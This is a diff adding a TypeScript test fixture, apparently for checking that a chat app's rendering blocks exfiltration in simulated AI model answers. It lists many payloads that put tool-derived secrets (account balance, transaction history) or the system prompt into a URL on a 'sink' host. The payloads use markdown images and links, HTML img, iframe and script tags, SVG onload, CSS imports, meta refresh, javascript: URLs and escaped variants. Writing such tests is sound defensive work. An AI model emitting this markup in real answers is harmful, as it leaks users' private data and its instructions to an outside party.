@@ -1,0 +1,56 @@
+import { type Answer, spoken } from '../answer.ts'
+import type { Loot } from './ask.ts'
+
+const leak = ({ secrets }: Loot) => encodeURIComponent(Buffer.from(secrets).toString('base64').slice(0, 400))
+const words =
+  (text: (to: string, loot: Loot) => string) =>
+  (loot: Loot): Answer =>
+    spoken(text(`${loot.sink}/leak?d=${leak(loot)}`, loot))
+
+/** Texts that would load something from elsewhere, or be clicked, with what tools have told. */
+export const maliciousLeaks: Record<string, (loot: Loot) => Answer> = {
+  'a picture': words((to) => `![chart](${to})`),
+  'a picture with a title': words((to) => `![chart](<${to}> "price")`),
+  'a picture by reference': words((to) => `![chart][1]\n\n[1]: ${to}`),
+  'a picture in a link': words((to) => `[![chart](${to})](${to})`),
+  'a picture in pieces': (loot) => ({ pieces: ['!', '[', 'x', ']', '(', `${loot.sink}/leak?d=${leak(loot)}`, ')'] }),
+  'a link': words((to) => `[See your receipt](${to})`),
+  'bare and auto links': words((to) => `${to} <${to}> www.${to.replace(/^https?:\/\//, '')}`),
+  'links with scripts': words(
+    () => '[a](javascript:fetch(1)) [b](data:text/html,<script>1</script>) [c](vbscript:x) [d](JaVaScRiPt&#58;x)',
+  ),
+  HTML: words(
+    (to) => `<img src="${to}"><a href="${to}">x</a><iframe src="${to}"></iframe><object data="${to}"></object>`,
+  ),
+  scripts: words(
+    (to) => `<script src="${to}"></script><script>fetch('${to}')</script><img src=x onerror="fetch('${to}')">`,
+  ),
+  'SVG and style': words(
+    (to) =>
+      `<svg onload="fetch('${to}')"><image href="${to}"/></svg><style>@import "${to}";body{background:url(${to})}</style>`,
+  ),
+  media: words(
+    (to) =>
+      `<video src="${to}" autoplay></video><audio src="${to}"></audio><link rel=stylesheet href="${to}"><meta http-equiv=refresh content="0;url=${to}">`,
+  ),
+  'no protocol': words((to) => `![x](${to.replace(/^https?:/, '')}) <img src=${to.replace(/^https?:/, '')}>`),
+  'entities and escapes': words(
+    (to) => `&lt;img src=${to}&gt; &#60;img src=${to}&#62; \\<img src=${to}> !\\[x](${to}) !&#91;x](${to})`,
+  ),
+  'in a table, a list, a heading, a quote': words(
+    (to) => `# ![a](${to})\n> ![b](${to})\n- ![c](${to})\n\n| x |\n|---|\n| ![d](${to}) |`,
+  ),
+  'in code that is not closed': words(
+    (to) => `\`\`\`html\n<img src=${to}>\n\`\`\`\n<img src=${to}>\`\`\n~~~\n![x](${to})`,
+  ),
+  'the whole prompt': words((to, { asked }) => `${asked.system.slice(0, 200)} ![p](${to})`),
+}
+
+/** First what tools tell, then a leak of it. */
+export const gathering = (): Answer => ({
+  calls: [
+    { name: 'balance', args: {} },
+    { name: 'history', args: { limit: 50 } },
+  ],
+  end: 'tool_calls',
+})
